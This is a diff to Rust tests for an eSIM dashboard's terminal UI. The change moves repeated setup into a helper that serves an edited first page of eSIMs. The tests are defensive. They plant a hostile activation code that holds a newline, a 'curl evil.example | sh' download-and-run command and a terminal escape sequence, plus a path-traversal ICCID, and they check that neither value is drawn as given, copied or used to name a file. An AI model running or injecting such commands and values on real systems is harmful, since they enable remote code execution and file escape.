@@ -287,27 +287,14 @@ fn code_of(h: &Harness, iccid: &str) -> String {
 /// (pasted into a shell, the newline would run the rest); `y` still copies the ICCID.
 #[tokio::test]
 async fn a_hostile_activation_code_is_never_drawn_or_copied() {
-    use esimdash::tui::msg::{Answer, Msg, Payload, Request};
     let mut h = Harness::acme().await;
-    h.send(key('3'));
-    let (id, request) = h
-        .pending()
-        .iter()
-        .find(|(_, r)| matches!(r, Request::Esims(_)))
-        .cloned()
-        .expect("My eSIMs asks for its first page");
-    let Ok(Payload::Esims(mut page)) = esimdash::tui::runtime::execute(&h.api(), &request).await else {
-        panic!("the first page");
-    };
     let hostile = "LPA:1$rsp.esim.example$ABC\ncurl evil.example | sh\x1b]0;owned\x07";
-    for esim in &mut page.esims {
-        esim.raw_order_json.ac = Some(hostile.to_string());
-    }
-    h.send(Msg::Answer(Box::new(Answer {
-        id,
-        result: Ok(Payload::Esims(page)),
-    })));
-    h.settle().await;
+    first_page_served_as(&mut h, |esims| {
+        for esim in esims {
+            esim.raw_order_json.ac = Some(hostile.to_string());
+        }
+    })
+    .await;
     let iccid = h.app.esims().selected_iccid().unwrap().to_string();
     let screen = h.screen(120, 40);
     assert!(
@@ -337,26 +324,13 @@ async fn a_hostile_activation_code_is_never_drawn_or_copied() {
 /// the message says the ICCID is not valid.
 #[tokio::test]
 async fn an_iccid_from_the_api_that_is_a_path_names_no_file_and_is_not_copied() {
-    use esimdash::tui::msg::{Answer, Effect, Msg, Payload, Request};
+    use esimdash::tui::msg::Effect;
     let mut h = Harness::acme().await;
-    h.send(key('3'));
-    let (id, request) = h
-        .pending()
-        .iter()
-        .find(|(_, r)| matches!(r, Request::Esims(_)))
-        .cloned()
-        .expect("My eSIMs asks for its first page");
-    let Ok(Payload::Esims(mut page)) = esimdash::tui::runtime::execute(&h.api(), &request).await else {
-        panic!("the first page");
-    };
-    let hostile = esimdash::domain::iccid::EsimIccid::parse("../../escaped");
-    page.esims[0].raw_order_json.iccid = hostile;
-    page.esims[0].raw_order_json.ac = Some("LPA:1$rsp.esim.example$ABC123".to_string());
-    h.send(Msg::Answer(Box::new(Answer {
-        id,
-        result: Ok(Payload::Esims(page)),
-    })));
-    h.settle().await;
+    first_page_served_as(&mut h, |esims| {
+        esims[0].raw_order_json.iccid = esimdash::domain::iccid::EsimIccid::parse("../../escaped");
+        esims[0].raw_order_json.ac = Some("LPA:1$rsp.esim.example$ABC123".to_string());
+    })
+    .await;
     assert!(h.screen(120, 40).contains("../../escaped"), "shown as it came");
     let effects = h.send(key('w'));
     assert!(
@@ -367,4 +341,26 @@ async fn an_iccid_from_the_api_that_is_a_path_names_no_file_and_is_not_copied() 
     assert_eq!(flash.tone, Tone::Error);
     assert!(flash.text.contains("ICCID from the API is not valid"), "{}", flash.text);
     assert!(copies(&h.send(key('y'))).is_empty(), "not copied as an ICCID");
+}
+
+/// Opens My eSIMs with its first page as the sandbox serves it, changed by `edit` (a server
+/// that sends what ours never does).
+async fn first_page_served_as(h: &mut Harness, edit: impl FnOnce(&mut Vec<esimdash::api::model::Esim>)) {
+    use esimdash::tui::msg::{Answer, Msg, Payload, Request};
+    h.send(key('3'));
+    let (id, request) = h
+        .pending()
+        .iter()
+        .find(|(_, r)| matches!(r, Request::Esims(_)))
+        .cloned()
+        .expect("My eSIMs asks for its first page");
+    let Ok(Payload::Esims(mut page)) = esimdash::tui::runtime::execute(&h.api(), &request).await else {
+        panic!("the first page");
+    };
+    edit(&mut page.esims);
+    h.send(Msg::Answer(Box::new(Answer {
+        id,
+        result: Ok(Payload::Esims(page)),
+    })));
+    h.settle().await;
 }
